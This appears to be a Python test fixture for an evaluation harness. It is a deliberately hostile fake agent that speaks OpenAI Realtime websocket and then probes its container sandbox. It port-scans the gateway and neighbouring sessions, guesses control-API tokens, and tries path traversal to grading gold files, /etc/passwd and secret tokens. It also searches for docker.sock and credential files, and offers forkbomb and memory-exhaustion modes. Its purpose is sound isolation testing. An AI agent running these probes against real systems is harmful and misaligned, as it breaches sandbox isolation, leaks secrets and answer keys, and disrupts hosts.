"""A hostile native agent: speaks just enough OpenAI Realtime to be run, then attacks its sandbox.

Standard library only, so it runs on the bare base image and depends on no project code (an agent
image from a third party would not have it either). It serves ``ws://0.0.0.0:8765/v1/realtime``:
``session.created`` on connect, ``session.updated`` for every ``session.update`` (whose ``mcp``
tool names the task's MCP endpoint), and it accepts and ignores ``input_audio_buffer.append``.

What it does after the first ``session.update`` is set by a JSON plan
(base64, ``$APEX_ATTACK_B64``, baked into a per-test image: the launcher passes an agent image
nothing else):

``probe``
    Tries every way out it is told about and some it finds itself (its subnet's neighbours), reads
    everything the MCP server offers, searches its own filesystem for ``needles``, and sends the
    report back as one agent transcript: ``response.output_text.delta`` whose text is
    ``REPORT_PREFIX`` + JSON, then ``response.output_text.done`` and ``response.done``. The harness
    logs it as an ``AGENT_TRANSCRIPT_PARTIAL`` event, which outlives the container. The same JSON
    goes to stdout (``docker logs``) for runs by hand.
``benign``
    Nothing: a silent agent that stays connected (a cheap agent for leak tests).
``forkbomb``
    A child process forks without end; the agent keeps its websocket open and says nothing.
``memhog``
    The agent process itself allocates and touches memory until the kernel kills it.

Every probe outcome is ``connected`` (a way out: the test fails), or the errno name / ``timeout``
of the refusal. ``own_mcp`` is the positive control: the agent's own MCP server must be reachable,
or every other "blocked" would prove nothing.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import ipaddress
import json
import os
import socket
import stat
import struct
import sys
import urllib.parse

PORT = 8765
PATH = "/v1/realtime"
REPORT_PREFIX = "ATTACK-REPORT "
CONNECT_TIMEOUT_S = 1.5
SCAN_CONCURRENCY = 128
WS_MAGIC = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
SKIPPED_ROOTS = ("/proc", "/sys", "/dev")
MAX_SCANNED_FILE = 4 * 1024 * 1024


# ---- a minimal RFC 6455 server ------------------------------------------------------------------


class Websocket:
    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer

    async def handshake(self) -> bool:
        request = await self.reader.readuntil(b"\r\n\r\n")
        lines = request.decode("latin-1").split("\r\n")
        path = lines[0].split(" ")[1] if len(lines[0].split(" ")) > 1 else ""
        headers = {
            k.strip().lower(): v.strip() for k, _, v in (line.partition(":") for line in lines[1:] if line)
        }
        key = headers.get("sec-websocket-key")
        if urllib.parse.urlsplit(path).path != PATH or key is None:
            self.writer.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
            await self.writer.drain()
            return False
        accept = base64.b64encode(hashlib.sha1((key + WS_MAGIC).encode()).digest()).decode()
        self.writer.write(
            "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Accept: {accept}\r\n\r\n".encode()
        )
        await self.writer.drain()
        return True

    async def receive(self) -> str | None:
        """The next text message (``None`` once the peer closed)."""
        parts: list[bytes] = []
        while True:
            head = await self.reader.readexactly(2)
            fin, opcode, masked, length = head[0] & 0x80, head[0] & 0x0F, head[1] & 0x80, head[1] & 0x7F
            if length == 126:
                (length,) = struct.unpack("!H", await self.reader.readexactly(2))
            elif length == 127:
                (length,) = struct.unpack("!Q", await self.reader.readexactly(8))
            mask = await self.reader.readexactly(4) if masked else b"\0\0\0\0"
            payload = bytes(b ^ mask[i % 4] for i, b in enumerate(await self.reader.readexactly(length)))
            if opcode == 0x8:
                await self._frame(0x8, payload[:2])
                return None
            if opcode == 0x9:
                await self._frame(0xA, payload)
                continue
            if opcode in (0x0, 0x1, 0x2):
                parts.append(payload)
                if fin:
                    return b"".join(parts).decode()

    async def send(self, message: dict) -> None:
        await self._frame(0x1, json.dumps(message).encode())

    async def _frame(self, opcode: int, payload: bytes) -> None:
        n = len(payload)
        head = bytes([0x80 | opcode]) + (
            bytes([n])
            if n < 126
            else bytes([126]) + struct.pack("!H", n)
            if n < 65536
            else bytes([127]) + struct.pack("!Q", n)
        )
        self.writer.write(head + payload)
        await self.writer.drain()


# ---- probes -------------------------------------------------------------------------------------


async def tcp(host: str, port: int) -> str:
    try:
        _, writer = await asyncio.wait_for(asyncio.open_connection(host, port), CONNECT_TIMEOUT_S)
    except TimeoutError:
        return "timeout"
    except OSError as exc:
        return errno_name(exc)
    writer.close()
    return "connected"


def errno_name(exc: OSError) -> str:
    import errno

    return errno.errorcode.get(exc.errno or 0, type(exc).__name__)


async def tcp_many(targets: list[tuple[str, int]]) -> list[dict]:
    gate = asyncio.Semaphore(SCAN_CONCURRENCY)

    async def one(host: str, port: int) -> dict:
        async with gate:
            return {"host": host, "port": port, "outcome": await tcp(host, port)}

    return list(await asyncio.gather(*(one(h, p) for h, p in targets)))


async def udp_dns(server: str) -> str:
    """A real DNS query (``example.com A``) over UDP: any answer is a way out."""
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"
    loop = asyncio.get_running_loop()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    try:
        await loop.sock_connect(sock, (server, 53))
        await loop.sock_sendall(sock, query)
        await asyncio.wait_for(loop.sock_recv(sock, 512), CONNECT_TIMEOUT_S)
        return "connected"
    except TimeoutError:
        return "timeout"
    except OSError as exc:
        return errno_name(exc)
    finally:
        sock.close()


def resolve(name: str) -> str:
    try:
        return "connected: " + ",".join(sorted({a[4][0] for a in socket.getaddrinfo(name, 443)}))
    except socket.gaierror as exc:
        return f"gaierror {exc.errno}"


async def http(
    method: str, url: str, body: bytes = b"", headers: dict | None = None
) -> tuple[int | str, str]:
    """One HTTP/1.1 request with a raw socket (status, body text); the status is an errno name on failure."""
    parts = urllib.parse.urlsplit(url)
    try:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(parts.hostname, parts.port or 80), CONNECT_TIMEOUT_S
        )
    except TimeoutError:
        return "timeout", ""
    except OSError as exc:
        return errno_name(exc), ""
    lines = [
        f"{method} {parts.path or '/'} HTTP/1.1",
        f"Host: {parts.netloc}",
        f"Content-Length: {len(body)}",
        "Connection: close",
        *(f"{k}: {v}" for k, v in (headers or {}).items()),
    ]
    writer.write(("\r\n".join(lines) + "\r\n\r\n").encode() + body)
    await writer.drain()
    raw = await asyncio.wait_for(reader.read(), 30)
    writer.close()
    head, _, payload = raw.partition(b"\r\n\r\n")
    status = int(head.split(b" ")[1])
    if b"transfer-encoding: chunked" in head.lower():
        payload = dechunk(payload)
    return status, payload.decode(errors="replace")


def dechunk(data: bytes) -> bytes:
    out = b""
    while data:
        size_line, _, data = data.partition(b"\r\n")
        size = int(size_line.split(b";")[0] or b"0", 16)
        if size == 0:
            break
        out, data = out + data[:size], data[size + 2 :]
    return out


class Mcp:
    """A bare MCP client over streamable HTTP (JSON responses or one SSE message per request)."""

    def __init__(self, url: str, headers: dict) -> None:
        self.url, self.headers, self.next_id = url, headers, 1

    async def request(self, method: str, params: dict | None = None) -> tuple[int | str, object]:
        body = {"jsonrpc": "2.0", "id": self.next_id, "method": method, "params": params or {}}
        self.next_id += 1
        status, text = await http(
            "POST",
            self.url,
            json.dumps(body).encode(),
            {
                "Content-Type": "application/json",
                "Accept": "application/json, text/event-stream",
                "MCP-Protocol-Version": "2025-06-18",
                **self.headers,
            },
        )
        if text.startswith("event:") or text.startswith("data:"):
            text = next((line[5:].strip() for line in text.splitlines() if line.startswith("data:")), "")
        try:
            return status, json.loads(text)
        except ValueError:
            return status, text


async def mcp_probe(url: str, headers: dict) -> dict:
    """Everything the MCP server offers, read as the agent (tools, resources, prompts, their text)."""
    if not url:
        return {}
    client = Mcp(url, headers)
    out: dict = {}
    out["initialize"] = await client.request(
        "initialize",
        {
            "protocolVersion": "2025-06-18",
            "capabilities": {},
            "clientInfo": {"name": "attacker", "version": "1"},
        },
    )
    for method in ("tools/list", "resources/list", "resources/templates/list", "prompts/list"):
        out[method] = await client.request(method)
    resources = out["resources/list"][1]
    uris = (
        [r.get("uri") for r in (resources.get("result") or {}).get("resources", [])]
        if isinstance(resources, dict)
        else []
    )
    out["resources/read"] = [await client.request("resources/read", {"uri": uri}) for uri in uris]
    tools = out["tools/list"][1]
    names = (
        [t.get("name") for t in (tools.get("result") or {}).get("tools", [])]
        if isinstance(tools, dict)
        else []
    )
    # Read-only looking tools called with no arguments: whatever they return is what any agent gets.
    out["tools/call"] = [
        await client.request("tools/call", {"name": n, "arguments": {}})
        for n in names
        if n.startswith(("get_", "list_", "search_", "lookup_"))
    ]
    out["escape_paths"] = [
        await client.request("resources/read", {"uri": uri})
        for uri in (
            "file:///task/grading/gold.yaml",
            "file:///etc/passwd",
            "file:///run/secrets/token",
            "../grading/gold.yaml",
        )
    ]
    return out


async def gather_dict(awaitables: dict) -> dict:
    values = await asyncio.gather(*awaitables.values())
    return dict(zip(awaitables, values, strict=True))


async def control_routes(base: str) -> dict:
    """The control API's routes asked for on the MCP listener (they live on a unix socket only)."""
    routes = (
        ("GET", "health"),
        ("GET", "snapshot"),
        ("POST", "load"),
        ("POST", "snapshot_since"),
        ("GET", "state"),
        ("POST", "media_time"),
    )
    return await gather_dict(
        {
            route: status_of(
                http(method, f"{base}/control/{route}", b"{}", {"Authorization": "Bearer guess"})
            )
            for method, route in routes
        }
    )


async def status_of(response) -> int | str:
    return (await response)[0]


async def mcp_status(url: str, headers: dict) -> int | str:
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}}).encode()
    return await status_of(
        http(
            "POST",
            url,
            body,
            {"Content-Type": "application/json", "Accept": "application/json, text/event-stream", **headers},
        )
    )


async def neighbour_scan(addresses: list[str], port: int, prefix: str) -> dict:
    scan = await tcp_many([(a, port) for a in addresses])
    return {
        "scanned": len(scan),
        "prefix": prefix,
        "connected": [r for r in scan if r["outcome"] == "connected"],
        "outcomes": sorted({r["outcome"] for r in scan}),
    }


def own_network() -> tuple[ipaddress.IPv4Network, str]:
    """This container's subnet (from the route table) and its own address."""
    with open("/proc/net/route") as table:
        rows = [line.split() for line in table.read().splitlines()[1:]]
    for row in rows:
        destination, mask = (ipaddress.IPv4Address(struct.pack("<I", int(v, 16))) for v in (row[1], row[7]))
        if int(destination) != 0:
            network = ipaddress.IPv4Network(f"{destination}/{mask}")
            return network, local_address(network)
    raise RuntimeError(f"no subnet route in /proc/net/route: {rows}")


def local_address(network: ipaddress.IPv4Network) -> str:
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect((str(network.network_address + 1), 9))
        return probe.getsockname()[0]
    finally:
        probe.close()


def filesystem_findings(needles: list[str]) -> dict:
    """Sockets, token-like files and files containing a needle, anywhere outside /proc, /sys, /dev."""
    sockets, tokens, matches = [], [], []
    encoded = [n.encode() for n in needles]
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in SKIPPED_ROOTS]
        for name in files:
            path = os.path.join(root, name)
            try:
                info = os.lstat(path)
            except OSError:
                continue
            if stat.S_ISSOCK(info.st_mode):
                sockets.append({"path": path, "outcome": unix_connect(path)})
            if name == "token" or "/secrets/" in path or name == "control.sock":
                tokens.append(path)
            if stat.S_ISREG(info.st_mode) and 0 < info.st_size <= MAX_SCANNED_FILE and encoded:
                try:
                    with open(path, "rb") as f:
                        data = f.read()
                except OSError:
                    continue
                if any(n in data for n in encoded):
                    matches.append(path)
    return {
        "sockets": sockets,
        "token_files": tokens,
        "needle_files": matches,
        "well_known": {
            p: os.path.exists(p)
            for p in (
                "/var/run/docker.sock",
                "/run/docker.sock",
                "/run/control",
                "/run/secrets",
                "/task",
                "/state",
            )
        },
    }


def unix_connect(path: str) -> str:
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        sock.connect(path)
        return "connected"
    except OSError as exc:
        return errno_name(exc)
    finally:
        sock.close()


async def probe_all(plan: dict, mcp: dict, session_update: dict) -> dict:
    mcp_url = mcp.get("server_url") or ""
    mcp_host = urllib.parse.urlsplit(mcp_url).hostname or ""
    mcp_port = urllib.parse.urlsplit(mcp_url).port or 80
    base = f"http://{mcp_host}:{mcp_port}"
    network, me = own_network()
    gateway = str(network.network_address + 1)
    hosts = [gateway, *plan.get("host_addresses", [])]
    host_ports = sorted({22, 80, 8080, 2375, 2376, *plan.get("host_ports", [])})
    # The neighbourhood: every address of the enclosing /24 outside our own subnet (other sessions).
    neighbourhood = ipaddress.IPv4Network(f"{me}/{plan.get('scan_prefix', 24)}", strict=False)
    neighbours = [str(a) for a in neighbourhood.hosts() if a not in network]
    report: dict = {
        "me": me,
        "network": str(network),
        "gateway": gateway,
        "mcp_url": mcp_url,
        "mcp_headers": sorted(mcp.get("headers") or {}),
        "session_update": session_update,
    }
    loop = asyncio.get_running_loop()
    public_ips = plan.get("public_ips", [])
    # The groups run at once: a refused name lookup alone takes ~10 s on an internal network.
    probes = {
        "own_mcp": tcp(mcp_host, mcp_port),
        "control_over_mcp_listener": control_routes(base),
        "mcp_without_token": mcp_status(mcp_url, {}),
        "mcp_wrong_token": mcp_status(mcp_url, {"Authorization": "Bearer not-the-token"}),
        "mcp_server_other_ports": tcp_many([(mcp_host, p) for p in (22, 80, 2375, 8000, 8081, 8765, 9000)]),
        "host": tcp_many([(h, p) for h in hosts for p in host_ports]),
        "internet_tcp": tcp_many([(ip, p) for ip in public_ips for p in (53, 80, 443)]),
        "internet_udp_dns": gather_dict({ip: udp_dns(ip) for ip in public_ips}),
        "dns": gather_dict(
            {
                name: loop.run_in_executor(None, resolve, name)
                for name in ("example.com", "pypi.org", "host.docker.internal")
            }
        ),
        "other_session": tcp_many([(h, int(p)) for h, p in plan.get("other_targets", [])]),
        "neighbour_scan": neighbour_scan(neighbours, mcp_port, str(neighbourhood)),
        "mcp": mcp_probe(mcp_url, mcp.get("headers") or {}),
        "filesystem": loop.run_in_executor(None, filesystem_findings, plan.get("needles", [])),
    }
    report.update(await gather_dict(probes))
    report["environment"] = sorted(os.environ)  # names only: the launcher should pass no secrets
    return report


# ---- the agent ----------------------------------------------------------------------------------


def forkbomb() -> None:
    if os.fork() != 0:
        return
    forks = 0
    while True:
        try:
            if os.fork() == 0:
                forks = 0
            else:
                forks += 1
        except OSError:
            pass


def memhog() -> None:
    hoard = []
    while True:
        chunk = bytearray(8 * 1024 * 1024)
        for i in range(0, len(chunk), 4096):
            chunk[i] = 1
        hoard.append(chunk)


async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, plan: dict) -> None:
    ws = Websocket(reader, writer)
    try:
        if not await ws.handshake():
            return
        await ws.send({"type": "session.created", "session": {"id": "sess_attacker", "model": "attacker"}})
        started = False
        while (text := await ws.receive()) is not None:
            message = json.loads(text)
            if message.get("type") != "session.update":
                continue  # input_audio_buffer.append and the rest: accepted, ignored
            await ws.send(
                {"type": "session.updated", "session": {"id": "sess_attacker", "model": "attacker"}}
            )
            if not started:
                started = True
                tools = (message.get("session") or {}).get("tools") or []
                mcp = next((t for t in tools if t.get("type") == "mcp"), {})
                asyncio.get_running_loop().create_task(act(ws, plan, mcp, message))
    except (asyncio.IncompleteReadError, ConnectionError):
        pass
    finally:
        writer.close()


async def act(ws: Websocket, plan: dict, mcp: dict, session_update: dict) -> None:
    mode = plan.get("mode", "probe")
    print(json.dumps({"mode": mode, "mcp": mcp.get("server_url")}), flush=True)
    if mode == "forkbomb":
        forkbomb()
    elif mode == "memhog":
        memhog()
    elif mode == "probe":
        report = await probe_all(plan, mcp, session_update)
        text = REPORT_PREFIX + json.dumps(report)
        print(text, flush=True)
        await ws.send(
            {
                "type": "response.output_text.delta",
                "response_id": "resp_report",
                "item_id": "item_report",
                "delta": text,
            }
        )
        await ws.send(
            {
                "type": "response.output_text.done",
                "response_id": "resp_report",
                "item_id": "item_report",
                "text": text,
            }
        )
        await ws.send(
            {"type": "response.done", "response": {"id": "resp_report", "status": "completed", "output": []}}
        )


async def main() -> None:
    plan = json.loads(base64.b64decode(os.environ.get("APEX_ATTACK_B64") or "e30="))
    server = await asyncio.start_server(lambda r, w: serve(r, w, plan), "0.0.0.0", PORT)
    print(json.dumps({"listening": PORT, "mode": plan.get("mode", "probe")}), flush=True)
    async with server:
        await server.serve_forever()


if __name__ == "__main__":
    try:
        asyncio.run(main())
    except KeyboardInterrupt:
        sys.exit(0)
